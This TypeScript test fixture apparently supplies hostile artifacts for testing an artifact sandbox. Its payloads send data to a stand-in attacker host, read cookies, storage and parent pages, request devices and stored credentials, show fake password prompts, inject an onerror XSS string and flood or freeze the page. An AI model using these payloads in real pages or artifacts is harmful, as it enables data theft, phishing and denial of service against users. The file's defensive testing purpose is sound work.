/** Describes an artifact that attacks the page around it, or the network. */
export interface HostileArtifact {
  readonly name: string;
  readonly language: 'html' | 'svg' | 'jsx' | 'javascript';
  readonly code: string;
  /** What becomes of it: it shows, it stops answering, or it is stopped because it says too much. */
  readonly fate?: 'silent' | 'flooding';
}

/** Runs a script that notes in the frame's document what it got hold of. */
const script = (body: string) =>
  `<p>Harmless words</p><script>const got=(read)=>{try{const value=read();if(value!==undefined&&value!==null)document.documentElement.dataset.got=String(value)}catch{}};${body}</script>`;
const page = (name: string, code: string): HostileArtifact => ({ name, language: 'html', code });
const run = (name: string, body: string, fate?: HostileArtifact['fate']): HostileArtifact => ({
  name,
  language: 'html',
  code: script(body),
  ...(fate ? { fate } : {}),
});

const peer = (stun: string) =>
  `const p=new RTCPeerConnection({iceServers:[{urls:'${stun}'}]});p.createDataChannel('x');p.createOffer().then((o)=>p.setLocalDescription(o))`;
const inner = (stun: string) => `<iframe srcdoc="<script>${peer(stun)}</script>"></iframe>`;

/** Lists artifacts that try to reach a foreign server, the page and its storage, or to block the page. */
export const hostileArtifacts = (evil: string, stun: string): readonly HostileArtifact[] => [
  // Requests
  run(
    'fetch',
    `fetch('${evil}/fetch').catch(()=>0);fetch('/api/v4/profile',{credentials:'include'}).then((r)=>got(()=>r.status)).catch(()=>0)`,
  ),
  run('request object', `const x=new XMLHttpRequest();x.open('GET','${evil}/xhr');x.send()`),
  run('beacon', `navigator.sendBeacon('${evil}/beacon','d')`),
  run('socket', `new WebSocket('${evil.replace('http', 'ws')}/socket')`),
  run('event source', `new EventSource('${evil}/events')`),
  run('transport', `new WebTransport('${evil.replace('http', 'https')}/transport')`),
  page(
    'images',
    `<img src="${evil}/i.png"><picture><source srcset="${evil}/s.png"><img src="${evil}/p.png"></picture><video poster="${evil}/v.png" src="${evil}/v.mp4"></video><audio src="${evil}/a.mp3" autoplay></audio>`,
  ),
  page(
    'styles',
    `<link rel="stylesheet" href="${evil}/x.css"><style>@import "${evil}/y.css";@font-face{font-family:f;src:url(${evil}/f.woff2)}p{background:url(${evil}/b.png);font-family:f;cursor:url(${evil}/c.cur),auto}</style><p>Words</p>`,
  ),
  page(
    'scripts',
    `<script src="${evil}/x.js"></script><script type="module">import '${evil}/m.js'</script><script>import('${evil}/d.js').catch(()=>0)</script>`,
  ),
  page(
    'hints',
    `<link rel="preconnect" href="${evil}"><link rel="dns-prefetch" href="${evil}"><link rel="prefetch" href="${evil}/p"><link rel="preload" as="image" href="${evil}/q.png"><link rel="modulepreload" href="${evil}/r.js"><link rel="prerender" href="${evil}/t"><link rel="icon" href="${evil}/u.ico"><link rel="manifest" href="${evil}/w">`,
  ),
  page(
    'speculation',
    `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${evil}/spec"]}],"prerender":[{"source":"list","urls":["${evil}/pre"]}]}</script>`,
  ),
  run(
    'worker',
    `new Worker(URL.createObjectURL(new Blob(["fetch('${evil}/worker').catch(()=>0);try{importScripts('${evil}/w.js')}catch{}"])))`,
  ),
  run(
    'workers of the page',
    `got(()=>navigator.serviceWorker.register('/sw.js')&&undefined);got(()=>new SharedWorker('/sw.js')&&undefined)`,
  ),
  run('peer connection', peer(stun)),
  page('peer connection in a frame', inner(stun)),
  run(
    'peer connection in a made frame',
    `const f=document.createElement('iframe');f.srcdoc=${JSON.stringify(`<script>${peer(stun)}</script>`).replace('</script>', '<\\/script>')};document.body.append(f);got(()=>f.contentWindow&&'frame')`,
  ),
  run(
    'peer connection in written markup',
    `document.body.insertAdjacentHTML('beforeend',${JSON.stringify(inner(stun)).replaceAll('</script>', '<\\/script>')});const d=document.createElement('div');d.innerHTML='<object data="about:blank"></object><embed src="about:blank">';document.body.append(d);got(()=>document.querySelector('iframe,object,embed')&&'frame')`,
  ),
  run(
    'frame by namespace',
    `const f=document.createElementNS('http://www.w3.org/1999/xhtml','x:iframe');document.body.append(f);got(()=>f.contentWindow&&'frame');got(()=>new DOMParser().parseFromString('<x:iframe xmlns:x="http://www.w3.org/1999/xhtml"/>','application/xhtml+xml').documentElement.contentWindow!==undefined&&undefined)`,
  ),
  run(
    'frame in a shadow tree',
    `const h=document.createElement('div');document.body.append(h);const r=h.attachShadow({mode:'closed'});r.innerHTML=${JSON.stringify(inner(stun)).replaceAll('</script>', '<\\/script>')};got(()=>r.querySelector('iframe')&&'frame')`,
  ),
  page('declared shadow tree', `<div><template shadowrootmode="closed">${inner(stun)}</template></div>`),
  // Leaving
  run('location', `location='${evil}/location?d=secret'`),
  run('own location', `location='/api/v4/profile?d=secret'`),
  page('refresh', `<meta http-equiv="refresh" content="0;url=${evil}/refresh">`),
  run('form', `const f=document.createElement('form');f.action='${evil}/form';f.method='post';document.body.append(f);f.submit()`),
  page(
    'links',
    `<a id="a" href="${evil}/link" ping="${evil}/ping">Go</a><a id="b" target="_blank" href="${evil}/blank">Go</a><a id="c" target="_top" href="${evil}/top">Go</a><script>for(const id of ['a','b','c'])document.getElementById(id).click()</script>`,
  ),
  run('windows', `got(()=>open('${evil}/window'));got(()=>open('about:blank'))`),
  run('top', `got(()=>{top.location='${evil}/top'});got(()=>{parent.location.href='${evil}/parent'})`),
  page('base', `<base href="${evil}/"><img src="relative.png"><script src="relative.js"></script>`),
  // Access
  run(
    'page',
    `got(()=>parent.document.title);got(()=>top.document.body.innerHTML);got(()=>parent.localStorage.length);got(()=>frameElement)`,
  ),
  run(
    'storage',
    `got(()=>localStorage.length);got(()=>sessionStorage.length);got(()=>document.cookie||undefined);got(()=>indexedDB.open('x')&&undefined);got(()=>caches.keys()&&undefined);try{document.cookie='a=1'}catch{}`,
  ),
  run(
    'names',
    `got(()=>window.name||undefined);got(()=>document.referrer||undefined);got(()=>location.ancestorOrigins.length>9?'x':undefined);got(()=>new BroadcastChannel('atrium')&&undefined)`,
  ),
  run(
    'devices',
    `for(const ask of [()=>navigator.geolocation.getCurrentPosition((p)=>got(()=>p)),()=>navigator.mediaDevices.getUserMedia({audio:true}).then((s)=>got(()=>s)),()=>navigator.clipboard.readText().then((t)=>got(()=>t)),()=>Notification.requestPermission().then((p)=>got(()=>p==='granted'?p:undefined)),()=>navigator.credentials.get({password:true}).then((c)=>got(()=>c))])try{const asked=ask();asked?.catch?.(()=>0)}catch{}`,
  ),
  run(
    'dialogs',
    `for(let i=0;i<50;i++){alert('Your session has expired');got(()=>confirm('Sure?')||undefined);got(()=>prompt('Password?'))}print()`,
  ),
  run(
    'messages to the page',
    `for(const m of ['artifact-frame',{type:'open'},{type:'shown'},{type:'failed',text:'<img src=x onerror=alert(1)>'},{type:'ended'}])for(const w of [parent,top])w.postMessage(m,'*')`,
  ),
  run(
    'events to the page',
    `got(()=>parent.dispatchEvent(new Event('x')));got(()=>parent.atriumRecorder);got(()=>{parent.onerror=()=>0;return 'set'})`,
  ),
  {
    name: 'drawing',
    language: 'svg',
    code: `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><image href="${evil}/svg.png" width="9" height="9"/><use href="${evil}/u.svg#x"/><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${evil}/f"/></foreignObject><script>fetch('${evil}/svg').catch(()=>0)</script></svg>`,
  },
  {
    name: 'component',
    language: 'jsx',
    code: `export default function App(){fetch('${evil}/react').catch(()=>0);return <div><img src="${evil}/react.png"/><iframe srcDoc="<p>x</p>"/><p>Harmless words</p></div>}`,
  },
  // Blocking
  run('flood', `const flood=()=>{for(let i=0;i<5000;i++)parent.postMessage('x'.repeat(1000),'*');setTimeout(flood,0)};flood()`, 'flooding'),
  run(
    'large messages',
    `const all=Array.from({length:400000},(_,i)=>i);const flood=()=>{for(let i=0;i<5;i++)parent.postMessage(all,'*');setTimeout(flood,100)};flood()`,
    'flooding',
  ),
  run('huge page', `const grow=()=>{for(let i=0;i<20000;i++)document.body.append(document.createElement('p'));setTimeout(grow,0)};grow()`),
  run('endless loop', 'for(;;);', 'silent'),
];
